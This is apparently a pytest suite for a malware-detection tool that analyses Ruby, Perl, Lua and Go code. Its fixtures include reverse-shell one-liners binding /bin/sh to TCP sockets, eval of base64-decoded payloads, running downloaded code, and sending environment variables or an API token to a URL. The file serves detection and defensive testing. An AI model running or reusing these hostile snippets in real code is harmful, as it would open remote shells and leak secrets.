"""Languages nothing here parses: what a line seems to do, and what stands close by."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.core.nouns import Lines
from vedette.core.text import cut
from vedette.core.verdicts import Verdict
from vedette.triage.allowance import Allowance
from vedette.triage.behaviours import Read, judge, observed
from vedette.triage.fact import Act, Fact
from vedette.triage.facts import facts
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample


def read(text: str, kind: Kind) -> list[Fact]:
    return list(facts(Sample(name="a", data=text.encode(), kind=kind), Allowance()))


@pytest.mark.parametrize(
    ("kind", "text", "act", "fed"),
    [
        (Kind.RUBY, 'eval(Base64.decode64("cHV0cyAx"))\n', Act.RUNS_CODE, Act.DECODES),
        (Kind.RUBY, 'x = URI.open("http://a.invalid/x").read\nsystem(x)\n', Act.RUNS_COMMAND, Act.DOWNLOADS),
        (Kind.RUBY, "d = ENV.to_h\nNet::HTTP.post(URI(u), d.to_json)\n", Act.SENDS, Act.READS_ENVIRONMENT),
        (Kind.PERL, "my $c = decode_base64($x);\neval $c;\n", Act.RUNS_CODE, Act.DECODES),
        (
            Kind.LUA,
            'local b = http.request("http://a.invalid")\nos.execute(b)\n',
            Act.RUNS_COMMAND,
            Act.DOWNLOADS,
        ),
        (
            Kind.GO,
            "d := b64.StdEncoding.DecodeString(s)\nexec.Command(d)\n",
            Act.RUNS_COMMAND,
            Act.DECODES,
        ),
        (
            Kind.GO,
            'k := os.Getenv("API_TOKEN")\nhttp.Post(u, "text", k)\n',
            Act.SENDS,
            Act.READS_SECRET,
        ),
    ],
)
def test_what_runs_or_sends_is_fed_by_what_stands_above_it(kind: Kind, text: str, act: Act, fed: Act) -> None:
    (sink,) = [one for one in read(text, kind) if one.act is act]
    assert fed in {one.act for one in sink.inputs}
    assert (sink.sure, sink.near) == (False, True)
    assert isinstance(sink.place, Lines)
    assert cut(text, sink.place) == sink.quote


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        (Kind.RUBY, "# system('id')\nputs 'hello'\nFile.read('a.yml')\n"),
        (Kind.PERL, "# eval $x\nmy %h = (system => 1);\nprint $h{system};\n"),
        (Kind.GO, "// exec.Command(x)\nfunc execute() { fmt.Println(1) }\n"),
        (Kind.LUA, "-- os.execute(x)\nprint(1)\n"),
    ],
)
def test_comments_and_names_that_only_look_like_it_are_nothing(kind: Kind, text: str) -> None:
    assert read(text, kind) == []


def test_what_stands_far_away_feeds_nothing() -> None:
    text = "x = Base64.decode64(y)\n" + "puts 1\n" * 40 + "system(z)\n"
    (sink,) = [one for one in read(text, Kind.RUBY) if one.act is Act.RUNS_COMMAND]
    assert sink.inputs == ()


@given(st.text(max_size=500), st.sampled_from([Kind.RUBY, Kind.PERL, Kind.LUA, Kind.GO]))
def test_every_quote_stands_where_it_is_said_to(text: str, kind: Kind) -> None:
    sample = Sample(name="a", data=text.encode("utf-8", "surrogatepass"), kind=kind)
    for one in facts(sample, Allowance()):
        assert isinstance(one.place, Lines)
        assert cut(sample.text, one.place) == one.quote


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        (Kind.PERL, 'connect(S,sockaddr_in($p,$i));open(STDIN,">&S");exec("/bin/sh -i");\n'),
        (Kind.PERL, "my $c = IO::Socket::INET->new('a:1');\nSTDIN->fdopen($c, 'r');\nsystem $_ while <>;\n"),
        (
            Kind.RUBY,
            's = TCPSocket.new("a", 1)\nwhile (c = s.gets)\n  IO.popen(c, "r") { |f| s.print f.read }\nend\n',
        ),
        (Kind.LUA, 't = socket.tcp()\nt:connect("a", 1)\nlocal r = t:receive()\nio.popen(r, "r")\n'),
        (Kind.GO, 'c, _ := net.Dial("tcp", "a:1")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c\n'),
        (Kind.RUBY, 'f = TCPSocket.open("a", 1).to_i\nexec sprintf("/bin/sh -i <&%d >&%d", f, f)\n'),
    ],
)
def test_shells_tied_to_connections(kind: Kind, text: str) -> None:
    sample = Sample(name="a", data=text.encode(), kind=kind)
    seen = observed([Read(sample=sample, facts=read(text, kind))])
    assert {one.page.id for one in seen} & {"runs-received", "shell-on-connection"}
    assert judge(sample, seen).verdict is Verdict.SUSPICIOUS


def test_what_a_line_runs_is_told() -> None:
    (one,) = read('print("a"); system("/bin/sh")\n', Kind.RUBY)
    assert one.target == "/bin/sh"
